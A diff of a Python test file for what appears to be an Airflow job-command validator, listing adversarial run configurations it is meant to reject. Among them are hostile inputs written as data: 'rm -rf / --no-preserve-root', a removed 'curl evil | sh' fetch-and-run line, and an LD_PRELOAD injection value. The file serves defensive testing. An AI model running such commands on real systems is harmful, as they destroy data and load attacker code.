@@ -12,9 +12,9 @@ from tests.support.airflow_pods import build_pod
 # (dag_id, conf, what is wrong)
 ADVERSARIAL: list[tuple[str, dict[str, Any], str]] = [
     ("run_job", {"command": "rm -rf / --no-preserve-root"}, "command as a shell string"),
-    ("run_job", {"command": ["sh", "-c", "curl evil | sh"]}, "sh -c"),
-    ("run_job", {"command": ["/bin/bash", "-c", "id"]}, "bash -c"),
-    ("run_job", {"command": ["bash", "-xc", "id"]}, "bash -xc"),
+    ("run_job", {"command": ["echo", "a\x00b"]}, "NUL byte in an argument"),
+    ("run_job", {"env": {"NVIDIA_VISIBLE_DEVICES": "all"}}, "GPU visibility env"),
+    ("run_job", {"env": {"LD_PRELOAD\n": "/tmp/x.so"}}, "env name with a newline"),
     ("run_job", {"command": []}, "empty command"),
     ("run_job", {"command": ["x"] * 65}, "too many arguments"),
     ("run_job", {"command": ["echo", "y" * 1025]}, "oversized argument"),
